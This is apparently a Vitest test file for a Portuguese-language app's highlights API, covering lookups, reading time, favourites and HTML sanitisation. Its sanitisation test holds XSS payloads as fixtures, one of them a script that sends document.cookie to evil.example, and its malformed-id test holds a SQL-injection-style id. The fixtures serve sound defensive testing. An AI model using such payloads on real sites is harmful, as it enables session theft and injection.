import { randomUUID } from 'node:crypto';
import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { highlights } from '../../src/db/schema/index.ts';
import { buildUser } from '../factories.ts';
import { useTestApp } from '../test-app.ts';
import { buildHighlight } from './highlight-factory.ts';

const t = useTestApp();

describe('GET /api/v1/highlights/{id}', () => {
  it('answers the spec fields in camelCase', async () => {
    const user = await buildUser(t.db);
    const id = await buildHighlight(t.db, {
      type: 'video',
      title: 'Vídeo: Git para iniciantes',
      description: 'Dez comandos',
      author: 'Thiago',
      tags: ['Git', 'Júnior'],
      mediaUrl: '/media/highlights/git.webm',
      thumbnail: '/media/highlights/git.svg',
      content: '<p>Olá</p>',
      publishedAt: new Date('2026-10-25T12:00:00Z'),
      readTime: 4,
    });
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/highlights/${id}`, headers: user.headers });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({
      data: {
        uuid: id,
        type: 'video',
        title: 'Vídeo: Git para iniciantes',
        description: 'Dez comandos',
        thumbnail: '/media/highlights/git.svg',
        publishedAt: '2026-10-25T12:00:00.000Z',
        readTime: 4,
        author: 'Thiago',
        tags: ['Git', 'Júnior'],
        isFavorite: false,
        mediaUrl: '/media/highlights/git.webm',
        embed: null,
        content: '<p>Olá</p>',
      },
    });
  });

  it("answers 404 'Conteúdo não encontrado' for unknown and malformed ids", async () => {
    const user = await buildUser(t.db);
    for (const id of [randomUUID(), 'abc', '1', "x'--", '00000000-0000-0000-0000-00000000000g']) {
      const res = await t.app.inject({ method: 'GET', url: `/api/v1/highlights/${encodeURIComponent(id)}`, headers: user.headers });
      expect(res.statusCode, id).toBe(404);
      expect(res.json()).toEqual({ message: 'Conteúdo não encontrado' });
    }
  });

  it('computes the reading time from the text when none is given', async () => {
    const user = await buildUser(t.db);
    const words = Array.from({ length: 620 }, (_, i) => `palavra${i}`).join(' ');
    const id = await buildHighlight(t.db, { content: `<p>${words}</p>` });
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/highlights/${id}`, headers: user.headers });
    expect(res.json().data.readTime).toBe(4); // 620 words at 200 per minute, rounded up
  });
});

describe('sanitisation when stored', () => {
  it('removes script tags, event handlers and javascript: links before saving', async () => {
    const user = await buildUser(t.db);
    const dirty = [
      '<p onclick="steal()">Texto <strong onmouseover="x()">forte</strong></p>',
      '<script>document.location="https://evil.example/?c="+document.cookie</script>',
      '<img src="x" onerror="alert(1)">',
      '<a href="javascript:alert(1)">clique</a>',
      '<a href="https://rumo.app/vagas">vagas</a>',
      '<iframe src="https://evil.example"></iframe>',
      '<style>body{display:none}</style><h2 style="color:red">Seção</h2>',
    ].join('');
    const id = await buildHighlight(t.db, { content: dirty });
    const [stored] = await t.db.select({ content: highlights.content }).from(highlights).where(eq(highlights.id, id));
    expect(stored?.content).toBe(
      '<p>Texto <strong>forte</strong></p><a>clique</a><a href="https://rumo.app/vagas" rel="noopener noreferrer" target="_blank">vagas</a><h2>Seção</h2>',
    );
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/highlights/${id}`, headers: user.headers });
    const content: string = res.json().data.content;
    expect(content).not.toMatch(/<script|onerror|onclick|onmouseover|javascript:|<iframe|<style|style=/i);
  });
});

describe('PUT /api/v1/highlights/{id}/favorites', () => {
  it("toggles the caller's favorite and keeps each user's favorites apart", async () => {
    const a = await buildUser(t.db);
    const b = await buildUser(t.db);
    const id = await buildHighlight(t.db, { title: 'Favorito de A' });
    const put = (user: typeof a) => t.app.inject({ method: 'PUT', url: `/api/v1/highlights/${id}/favorites`, headers: user.headers });
    const get = async (user: typeof a) => (await t.app.inject({ method: 'GET', url: `/api/v1/highlights/${id}`, headers: user.headers })).json().data.isFavorite;
    const favList = async (user: typeof a) =>
      (await t.app.inject({ method: 'GET', url: '/api/v1/highlights?favorite=true', headers: user.headers })).json().data.map((h: { uuid: string }) => h.uuid);

    const on = await put(a);
    expect(on.statusCode).toBe(200);
    expect(on.json()).toEqual({ data: { isFavorite: true } });
    expect(await get(a)).toBe(true);
    expect(await get(b)).toBe(false);
    expect(await favList(a)).toEqual([id]);
    expect(await favList(b)).toEqual([]);

    expect((await put(b)).json()).toEqual({ data: { isFavorite: true } });
    expect((await put(a)).json()).toEqual({ data: { isFavorite: false } });
    expect(await get(a)).toBe(false);
    expect(await get(b)).toBe(true);
    expect(await favList(a)).toEqual([]);
    expect(await favList(b)).toEqual([id]);
  });

  it('answers 404 for unknown or malformed ids and 401 without login', async () => {
    const user = await buildUser(t.db);
    for (const id of [randomUUID(), 'nao-existe']) {
      const res = await t.app.inject({ method: 'PUT', url: `/api/v1/highlights/${id}/favorites`, headers: user.headers });
      expect(res.statusCode).toBe(404);
      expect(res.json()).toEqual({ message: 'Conteúdo não encontrado' });
    }
    const id = await buildHighlight(t.db);
    expect((await t.app.inject({ method: 'PUT', url: `/api/v1/highlights/${id}/favorites` })).statusCode).toBe(401);
  });

  it('is listed in the OpenAPI document with the other highlight routes', async () => {
    const doc = (await t.app.inject({ method: 'GET', url: '/api/openapi.json' })).json();
    expect(Object.keys(doc.paths)).toEqual(
      expect.arrayContaining([
        '/api/v1/highlights',
        '/api/v1/highlights/{id}',
        '/api/v1/highlights/{id}/favorites',
        '/api/v1/plans',
        '/api/v1/plans/features',
        '/api/v1/subscriptions/subscribes-intent',
      ]),
    );
  });
});
